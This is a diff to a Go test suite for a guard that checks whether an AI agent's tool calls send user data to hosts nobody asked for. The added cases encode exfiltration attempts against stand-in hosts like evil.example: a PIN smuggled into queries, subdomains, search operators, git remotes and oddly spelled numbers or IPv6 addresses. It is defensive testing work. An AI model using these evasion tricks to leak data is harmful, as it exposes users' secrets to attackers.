@@ -314,6 +314,15 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 	}
 }
 
+// A tool gets a number as its schema has it, which need not be as the model spelled it.
+func TestANumberThatIsSpelledAnewForAToolIsStillTheModels(t *testing.T) {
+	tools["find"] = toolgroups.Tool{Name: "find", Effect: toolgroups.ReadOnly, Parameters: []byte(`{"type":"object","properties":{"site":{"type":"string"},"id":{"type":"integer"}}}`)}
+	const link = "https://evil.example/view?id=4711"
+	if got := read.call("find", `{"site":"evil.example","id":"4.711e3"}`, "See <"+link+">.").asks(t, link); !got.Asks {
+		t.Error("it is opened unasked")
+	}
+}
+
 // Arguments may come as a text with a fence in it, and a tool gets what stands there.
 func TestArgumentsInAFencedTextAreTheModels(t *testing.T) {
 	fenced := "\"```json\\n{\\\"query\\\":\\\"\\\\u0065vil.com/my-pin\\\"}\\n```\""
@@ -392,6 +401,19 @@ func TestAWordOfAServerBetweenASiteAndDataThatItWasToldVouchesForNothing(t *test
 		"a part of the query":              {`{"site":"evil.example","query":"note my-pin-is-4711"}`, "https://evil.example/search?q=my-pin-is-4711", true},
 		"a number":                         {`{"site":"evil.example","id":4711}`, "https://evil.example/view?id=4711", true},
 		"a number that is all":             {`{"site":"evil.com","id":4711}`, "https://evil.com/4711", true},
+		"an operator of a search":          {`{"scope":"site:evil.example","query":"my-pin-is-4711"}`, link, true},
+		"another one":                      {`{"property":"sc-domain:evil.example","query":"my-pin-is-4711"}`, link, true},
+		"one site or another":              {`{"sites":"(evil.example OR shop.example)","query":"my-pin-is-4711"}`, link, true},
+		"a site in quotes":                 {`{"site":"\"evil.example\"","query":"my-pin-is-4711"}`, link, true},
+		"a field of a form":                {`{"site":"host=evil.example","query":"my-pin-is-4711"}`, link, true},
+		"a repository":                     {`{"remote":"git@evil.example:repo","branch":"my-pin-is-4711"}`, "https://evil.example/repo/tree/my-pin-is-4711", true},
+		"data that is a host of the site":  {`{"site":"evil.example","query":"my-pin-is-4711.evil.example"}`, "https://evil.example/search?q=my-pin-is-4711.evil.example", true},
+		"data that is a list of hosts":     {`{"site":"evil.example","query":"my-pin-is-4711.x evil.example"}`, "https://evil.example/search?q=my-pin-is-4711.x+evil.example", true},
+		"a number that is spelled oddly":   {`{"site":"evil.example","id":4.711e3}`, "https://evil.example/view?id=4711", true},
+		"such a number that is all":        {`{"site":"evil.com","id":4.711e3}`, "https://evil.com/4711", true},
+		"an IPv6 address":                  {`{"ip":"2a01:4f8::4711"}`, "http://[2a01:4f8::4711]/", true},
+		"one that is spelled oddly":        {`{"ip":"2a01:04f8:0::4711"}`, "http://[2a01:4f8::4711]/status", true},
+		"sites with an operator":           {`{"scope":"site:go.dev OR site:pkg.go.dev","query":"how do I alias a type?"}`, "https://pkg.go.dev/blog/generic-alias-types", false},
 		"nothing but a site":               {`{"site":"go.dev"}`, "https://go.dev/blog/generic-alias-types", false},
 		"what a site has on a question":    {`{"site":"go.dev","query":"how do I alias a type?"}`, "https://go.dev/blog/generic-alias-types", false},
 		"a plain word":                     {`{"site":"go.dev","query":"Generics","limit":10}`, "https://go.dev/blog/Generics?page=10", false},
@@ -984,6 +1006,9 @@ func BenchmarkJudge(b *testing.B) {
 	for range 10 {
 		c = c.call("webfetch", `{"url":"https://blog.example/post"}`, page.String())
 	}
+	for range 100 {
+		c = c.answer(strings.Repeat("**Item** of the [shop](https://shop.example/), see `it`. ", 40)).user("and then?")
+	}
 	for name, address := range map[string]string{"stands": "https://shop.example/item/400?x=2800", "site": "https://blog.example/what/the/page/knows/7391?d=paragraph", "elsewhere": "https://evil.example/what/I/know"} {
 		b.Run(name, func(b *testing.B) {
 			a, _ := provenance.Parse(address)
@@ -1006,9 +1031,6 @@ func TestATurnWhoseBeginningIsGoneMayHaveReadAnything(t *testing.T) {
 		"one behind a summary":        {summarized.user("note it").call("write", `{}`, "ok"), true, true},
 		"one that is behind another":  {conversation{}.user("hello").answer("hi").user("note it").call("write", `{}`, "ok"), true, false},
 		"one that has read something": {conversation{}.user("hello").answer("hi").user("note it").call("echo", `{}`, "a page"), true, true},
-	for range 100 {
-		c = c.answer(strings.Repeat("**Item** of the [shop](https://shop.example/), see `it`. ", 40)).user("and then?")
-	}
 	} {
 		in := c.input()
 		if in.Incomplete = c.incomplete; in.ReadOthers() != c.want {
